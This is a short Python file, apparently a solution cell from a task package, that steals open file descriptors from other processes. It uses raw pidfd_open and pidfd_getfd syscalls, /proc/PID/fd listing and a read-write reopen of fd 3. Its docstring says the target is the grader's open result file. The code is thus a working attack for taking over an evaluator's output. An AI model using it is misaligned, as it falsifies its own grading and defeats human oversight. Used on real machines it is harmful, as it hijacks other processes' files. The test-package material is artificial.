"""Takes open files from other processes, by `pidfd_getfd` and by their `/proc/PID/fd`.

Elsewhere: the grader's open result file, for writing.
"""

# %% solution="value"
import os

from toolbox import each, reached, syscall, tell, victims, won


def take(pid):
    process = syscall(434, pid, 0)
    taken = syscall(438, process, 3, 0)
    return won(taken)


def list_them(pid):
    return won(os.listdir(f"/proc/{pid}/fd"))


def reopen(pid):
    return won(os.open(f"/proc/{pid}/fd/3", os.O_RDWR))


def loot():
    reached()
    return "; ".join(each(way, victims()) for way in (take, list_them, reopen))


def attribute(prompt, x):
    return tell(loot)
